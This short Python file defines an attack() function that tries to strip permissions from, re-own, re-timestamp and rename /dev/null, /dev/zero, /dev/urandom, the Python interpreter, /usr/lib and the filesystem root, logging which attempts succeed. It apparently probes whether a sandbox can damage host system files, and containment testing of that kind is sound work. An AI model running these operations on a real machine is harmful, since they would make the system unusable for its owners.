"""Takes away the rights of devices and of files of the system, which are the same ones outside."""
import os
import sys


def attack():
    changed = []
    for path in ("/dev/null", "/dev/zero", "/dev/urandom", sys.executable, "/usr/lib", "/"):
        for act in (lambda: os.chmod(path, 0), lambda: os.chown(path, 0, 0), lambda: os.utime(path, (1, 1)),
                    lambda: os.rename(path, path + "x")):
            try:
                act()
                changed.append(path)
            except OSError:
                pass
    return changed
